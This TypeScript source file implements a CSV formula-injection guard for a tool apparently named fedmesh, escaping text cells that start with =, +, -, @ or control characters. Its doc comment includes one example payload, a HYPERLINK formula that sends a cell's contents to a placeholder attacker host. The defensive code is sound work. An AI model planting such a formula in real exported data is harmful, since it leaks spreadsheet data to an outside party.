/**
 * Formula-injection guard for CSV (CWE-1236, OWASP "CSV Injection"): a spreadsheet opening the file runs any cell
 * that starts with = + - @ (or a tab or line break before them) as a formula, and a product name, group key or
 * cohort name a researcher did not choose could be `=HYPERLINK("https://evil/?"&A1)`. Such text cells get a leading
 * apostrophe, which spreadsheets show as text and do not evaluate. Numbers stay numbers: a JSON number is written as
 * is, and a text cell that is a plain decimal number (`-12`, `+3.5e-2`) cannot be a formula, so it is not changed
 * either. Used by every CSV fedmesh writes (the CLI's `--format csv` and the dashboard's download).
 */
import type { FlatTable } from '../../sdk/result-table.js';

/** First characters a spreadsheet may take as the start of a formula (OWASP's list, plus line feed). */
const FORMULA_START = /^[=+\-@\t\r\n]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/** `v` as a spreadsheet will read it as text: a formula-like string gets a leading `'`; anything else is unchanged. */
export function neutraliseFormula<T>(v: T): T | string {
  if (typeof v !== 'string' || !FORMULA_START.test(v) || PLAIN_NUMBER.test(v)) return v;
  return `'${v}`;
}

/** The table with every formula-like text cell and column name neutralised; numbers, booleans and null kept. */
export function formulaSafeTable(t: FlatTable): FlatTable {
  const columns = t.columns.map((c) => neutraliseFormula(c));
  const rows = t.rows.map((r) => Object.fromEntries(t.columns.map((c, i) => [columns[i]!, neutraliseFormula(r[c] ?? null)])));
  return { columns, rows };
}
